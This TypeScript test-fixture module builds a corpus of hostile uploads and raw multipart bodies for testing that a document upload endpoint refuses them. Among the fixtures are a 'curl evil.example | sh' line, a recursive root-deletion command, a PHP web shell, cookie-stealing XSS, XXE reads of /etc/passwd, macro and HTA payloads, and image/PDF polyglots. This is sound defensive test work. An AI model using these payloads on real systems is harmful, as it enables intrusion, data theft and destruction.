/**
 * Tests only: the bytes and the multipart bodies of the upload attacks (upload-attack-corpus.ts).
 * Bodies are written byte by byte, not through FormData, so an attack can send what no browser
 * would: raw quotes, CR/LF and NUL in a header, two file parts, no boundary, a broken end.
 */
import { gzipSync, zipSync } from 'fflate';
import type { ErrorCode } from '../../../core/errors';
import { MAX_DOCUMENT_MEGABYTES, MAX_DOCUMENTS_PER_ASSESSMENT, type DocumentMimeType } from '../../../core/schemas/documents';
import { ELF_BYTES, JPEG_BYTES, MZ_BYTES, PDF_BYTES, PNG_BYTES } from './upload-fixtures';

export { ELF_BYTES, JPEG_BYTES, MZ_BYTES, PDF_BYTES, PNG_BYTES };

const text = (value: string) => Buffer.from(value, 'utf8');
const SCRIPT = '<script>fetch("/api/auth/user").then(r=>r.text()).then(alert)</script>';

export const HTML_PAGE = text(`<!DOCTYPE html><html><head><title>payslip</title></head><body>${SCRIPT}</body></html>`);
export const SVG_SCRIPT = text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">${SCRIPT}</svg>`);
export const ZIP_BYTES = Buffer.from(zipSync({ 'run.sh': text('#!/bin/sh\ncurl evil.example | sh\n'), 'index.html': HTML_PAGE }));

/** Executable, script, archive and markup content: what must never be stored as a document. */
export const HOSTILE_CONTENT: Record<string, Buffer> = {
  'ELF executable': ELF_BYTES,
  'Windows MZ/PE executable': MZ_BYTES,
  'HTML page with script': HTML_PAGE,
  'SVG with script': SVG_SCRIPT,
  'JavaScript': text('alert(document.domain);fetch("/api/documents").then(r=>r.json()).then(console.log);\n'),
  'ZIP archive': ZIP_BYTES,
  'Word document with a macro (docm)': Buffer.from(
    zipSync({
      '[Content_Types].xml': text('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
      'word/document.xml': text('<w:document/>'),
      'word/vbaProject.bin': Buffer.concat([text('Attribute VB_Name = "AutoOpen"\nShell "cmd /c calc"'), Buffer.alloc(64)]),
    }),
  ),
  'OLE2 office file with a VBA macro': Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), text('VBA\0_VBA_PROJECT\0AutoOpen Shell')]),
  'shell script': text('#!/bin/sh\nrm -rf --no-preserve-root /\n'),
  'PHP script': text('<?php system($_GET["c"]); ?>\n'),
  'Java class': Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(64)]),
  'GIF image': Buffer.concat([text('GIF89a'), Buffer.from('0100010080000000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex')]),
  'EICAR test string': text('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
  'XML with an external entity': text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>'),
  'RTF with an embedded object': text('{\\rtf1\\ansi{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105}}}'),
  'UTF-16 HTML with a byte order mark': Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<html>${SCRIPT}</html>`, 'utf16le')]),
};

/** SVG tricks, each refused whatever it is called. */
export const SVG_VARIANTS: Record<string, Buffer> = {
  'script element': SVG_SCRIPT,
  'onload handler': text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'foreignObject with HTML': text(
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}<iframe src="javascript:alert(1)"></iframe></body></foreignObject></svg>`,
  ),
  'javascript: link': text('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text y="20">payslip</text></a></svg>'),
  'XML declaration and entity': text('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'),
  'external use': text('<svg xmlns="http://www.w3.org/2000/svg"><use href="https://evil.example/x.svg#a"/></svg>'),
  'gzipped (svgz)': Buffer.from(gzipSync(SVG_SCRIPT)),
};

/** HTML in its various disguises. */
export const HTML_VARIANTS: Record<string, Buffer> = {
  'doctype page': HTML_PAGE,
  'bare script': text(SCRIPT),
  'meta refresh': text('<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head></html>'),
  'iframe': text('<iframe src="https://evil.example/phish" style="position:fixed;inset:0"></iframe>'),
  'upper case': text(`<HTML><BODY ONLOAD="alert(1)">${SCRIPT.toUpperCase()}</BODY></HTML>`),
  'leading whitespace and BOM': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(`\n\n   <html>${SCRIPT}</html>`)]),
  'XHTML': text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${SCRIPT}</body></html>`),
  'HTA application': text('<html><head><HTA:APPLICATION id="x"/></head><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></html>'),
};

const pdf = (body: string) => text(`%PDF-1.4\n${body}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);
/** A PNG with an extra chunk after IHDR (its CRC is not checked by anyone who reads the type). */
const pngWithChunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([PNG_BYTES.subarray(0, 33), length, text(type), data, Buffer.alloc(4), PNG_BYTES.subarray(33)]);
};
/** A JPEG with a comment segment right after its start marker. */
const jpegWithComment = (comment: Buffer) => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([JPEG_BYTES.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, JPEG_BYTES.subarray(2)]);
};
const GIF = HOSTILE_CONTENT['GIF image'];

/** Files that are two things at once. `type` is what the content starts as, if it is a type we accept. */
export const POLYGLOTS: Array<{ label: string; bytes: Buffer; type: 'application/pdf' | 'image/jpeg' | 'image/png' | null }> = [
  { label: 'HTML page, then a PDF', bytes: Buffer.concat([HTML_PAGE, PDF_BYTES]), type: null },
  { label: 'JavaScript, then a PDF in a comment', bytes: Buffer.concat([text('alert(1);/*\n'), PDF_BYTES, text('*/\n')]), type: null },
  { label: 'PDF magic inside an HTML comment', bytes: text(`<!--%PDF-1.4 -->${SCRIPT}`), type: null },
  { label: 'PDF magic after a UTF-8 byte order mark', bytes: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), PDF_BYTES]), type: 'application/pdf' },
  { label: 'PDF magic after a space', bytes: Buffer.concat([text(' '), PDF_BYTES]), type: null },
  { label: 'GIFAR (GIF, then a Java archive)', bytes: Buffer.concat([GIF, ZIP_BYTES]), type: null },
  { label: 'ZIP whose first entry is a PDF', bytes: Buffer.from(zipSync({ 'a.pdf': PDF_BYTES })), type: null },
  { label: 'PDF magic, then an HTML page', bytes: pdf(`<html><body>${SCRIPT}</body></html>`), type: 'application/pdf' },
  { label: 'PDF with an OpenAction JavaScript', bytes: pdf('1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >> endobj'), type: 'application/pdf' },
  { label: 'PDF, then HTML after %%EOF', bytes: Buffer.concat([PDF_BYTES, HTML_PAGE]), type: 'application/pdf' },
  { label: 'PDF, then a ZIP', bytes: Buffer.concat([PDF_BYTES, ZIP_BYTES]), type: 'application/pdf' },
  { label: 'JPEG, then a Java archive (JPEGAR)', bytes: Buffer.concat([JPEG_BYTES, ZIP_BYTES]), type: 'image/jpeg' },
  { label: 'JPEG with a script appended', bytes: Buffer.concat([JPEG_BYTES, text(SCRIPT)]), type: 'image/jpeg' },
  { label: 'JPEG with HTML in a comment segment', bytes: jpegWithComment(HTML_PAGE), type: 'image/jpeg' },
  { label: 'JPEG with PHP appended', bytes: Buffer.concat([JPEG_BYTES, HOSTILE_CONTENT['PHP script']]), type: 'image/jpeg' },
  { label: 'PNG with HTML after IEND', bytes: Buffer.concat([PNG_BYTES, HTML_PAGE]), type: 'image/png' },
  { label: 'PNG with a script in a tEXt chunk', bytes: pngWithChunk('tEXt', text(`Comment\0${SCRIPT}`)), type: 'image/png' },
  { label: 'PNG, then a ZIP', bytes: Buffer.concat([PNG_BYTES, ZIP_BYTES]), type: 'image/png' },
];

/** A PDF padded with spaces to exactly `size` bytes. */
export const pdfOfSize = (size: number) => Buffer.concat([PDF_BYTES, Buffer.alloc(size - PDF_BYTES.length, 0x20)]);

export const BOUNDARY = '----acasa-attack-7MA4YWxkTrZu0gW';

/** One part of a multipart body. `disposition` replaces the Content-Disposition built from the rest. */
export interface PartSpec {
  name: string;
  /** A string is sent as a browser sends it (", CR and LF as %22, %0D, %0A); bytes are sent as they are. */
  filename?: string | Buffer;
  contentType?: string;
  body: Buffer | string;
  disposition?: Buffer | string;
  headers?: string[];
}

/** The WHATWG form encoding of a file name in a multipart header. */
export const browserEncoded = (name: string) => name.replace(/"/g, '%22').replace(/\r/g, '%0D').replace(/\n/g, '%0A');

function partHeader(part: PartSpec): Buffer {
  const disposition =
    part.disposition ??
    Buffer.concat([
      text(`form-data; name="${part.name}"`),
      ...(part.filename === undefined ? [] : [text('; filename="'), typeof part.filename === 'string' ? text(browserEncoded(part.filename)) : part.filename, text('"')]),
    ]);
  const lines = [text('Content-Disposition: '), typeof disposition === 'string' ? text(disposition) : disposition, text('\r\n')];
  if (part.contentType !== undefined) lines.push(text(`Content-Type: ${part.contentType}\r\n`));
  for (const header of part.headers ?? []) lines.push(text(`${header}\r\n`));
  return Buffer.concat(lines);
}

/** A multipart/form-data body; `end: false` leaves the closing boundary off (a body cut short). */
export function multipartBody(parts: PartSpec[], options: { boundary?: string; end?: boolean } = {}): Buffer {
  const boundary = options.boundary ?? BOUNDARY;
  const chunks = parts.flatMap((part) => [text(`--${boundary}\r\n`), partHeader(part), text('\r\n'), typeof part.body === 'string' ? text(part.body) : part.body, text('\r\n')]);
  if (options.end !== false) chunks.push(text(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

export type Caller = 'owner' | 'otherUser' | 'broker' | 'admin' | 'guest' | 'forgedSession';

/** The assessments an attack can name: the owner's (one with room, its draft, a full one) and another user's. */
export interface AttackIds {
  own: string;
  ownDraft: string;
  full: string;
  otherUsers: string;
  otherDraft: string;
}
export type AssessmentRef = keyof AttackIds | { id: string };

export interface UploadRequest {
  /** undefined: multipart/form-data with the corpus boundary; null: no Content-Type header. */
  contentType?: string | null;
  body: Buffer;
}

export interface Refusal {
  status: number;
  code: ErrorCode;
  key: string;
  values?: Record<string, string | number>;
  /** The field the answer's fieldErrors must name, with its message key when it is not `key`. */
  field?: string;
  fieldKey?: string;
}
export interface Acceptance {
  type: DocumentMimeType;
  bytes: Buffer;
  /** The exact name kept, where the attack pins it. */
  name?: string;
  into?: keyof AttackIds;
  documentType?: string;
}

export interface UploadAttack {
  kind: string;
  name: string;
  caller: Caller;
  request(ids: AttackIds): UploadRequest;
  expect: { accepted: Acceptance } | { refused: Refusal };
  /** The file name as sent, for checking that none of its folders reaches the name kept or the storage. */
  sentName?: string;
}

export const REFUSED = {
  unsupportedType: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', key: 'errors.document.unsupportedType' },
  tooLarge: { status: 413, code: 'PAYLOAD_TOO_LARGE', key: 'errors.document.tooLarge', values: { max: MAX_DOCUMENT_MEGABYTES } },
  empty: { status: 400, code: 'VALIDATION_ERROR', key: 'errors.document.empty' },
  oneFile: { status: 400, code: 'VALIDATION_ERROR', key: 'errors.document.oneFile' },
  incomplete: { status: 400, code: 'VALIDATION_ERROR', key: 'errors.document.incomplete' },
  malformed: { status: 400, code: 'VALIDATION_ERROR', key: 'errors.validation' },
  noFile: { status: 400, code: 'VALIDATION_ERROR', key: 'validation.document.fileRequired', field: 'file' },
  badType: { status: 400, code: 'VALIDATION_ERROR', key: 'validation.documentType.invalid', field: 'documentType' },
  noAssessment: { status: 400, code: 'VALIDATION_ERROR', key: 'validation.document.assessmentRequired', field: 'assessmentId' },
  notFound: { status: 404, code: 'NOT_FOUND', key: 'errors.notFound' },
  tooMany: { status: 409, code: 'CONFLICT', key: 'errors.document.tooMany', values: { max: MAX_DOCUMENTS_PER_ASSESSMENT } },
  unauthorized: { status: 401, code: 'UNAUTHORIZED', key: 'errors.unauthorized' },
  notMultipart: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', key: 'errors.document.multipartRequired' },
  mediaType: { status: 415, code: 'UNSUPPORTED_MEDIA_TYPE', key: 'errors.unsupportedMediaType' },
} as const satisfies Record<string, Refusal>;

/** A known field longer than the parser reads (it would be cut short): refused, naming it. */
export const fieldTooLong = (field: 'assessmentId' | 'documentType'): Refusal =>
  field === 'documentType' ? REFUSED.badType : { status: 400, code: 'VALIDATION_ERROR', key: 'validation.assessmentId.invalid', field };

export interface FileSpec {
  bytes: Buffer;
  name?: string | Buffer;
  type?: string;
  field?: string;
  headers?: string[];
  disposition?: string | Buffer;
}
export interface FormSpec {
  assessment?: AssessmentRef | null;
  documentType?: string | null;
  file?: FileSpec | null;
  fileFirst?: boolean;
  /** Parts before and after the usual ones. */
  before?: (ids: AttackIds) => PartSpec[];
  after?: (ids: AttackIds) => PartSpec[];
}

export const idOf = (ids: AttackIds, ref: AssessmentRef) => (typeof ref === 'string' ? ids[ref] : ref.id);
export const field = (name: string, body: string | Buffer, contentType?: string): PartSpec => ({ name, body, contentType });
export const filePart = ({ bytes, name = 'payslip.pdf', type = 'application/pdf', field: fieldName = 'file', headers, disposition }: FileSpec): PartSpec => ({
  name: fieldName,
  filename: name,
  contentType: type,
  body: bytes,
  headers,
  disposition,
});

/** The upload page's form (fields, then the file), changed where the attack says. */
export function form(spec: FormSpec = {}): (ids: AttackIds) => UploadRequest {
  return (ids) => {
    const { assessment = 'own', documentType = 'payslip', file = { bytes: PDF_BYTES }, fileFirst = false } = spec;
    const fields: PartSpec[] = [];
    if (assessment !== null) fields.push(field('assessmentId', idOf(ids, assessment)));
    if (documentType !== null) fields.push(field('documentType', documentType));
    const files = file ? [filePart(file)] : [];
    const parts = fileFirst ? [...files, ...fields] : [...fields, ...files];
    return { body: multipartBody([...(spec.before?.(ids) ?? []), ...parts, ...(spec.after?.(ids) ?? [])]) };
  };
}

export const accepted = (type: DocumentMimeType, bytes: Buffer, more: Omit<Acceptance, 'type' | 'bytes'> = {}) => ({ accepted: { type, bytes, ...more } });
export const refused = (refusal: Refusal) => ({ refused: refusal });

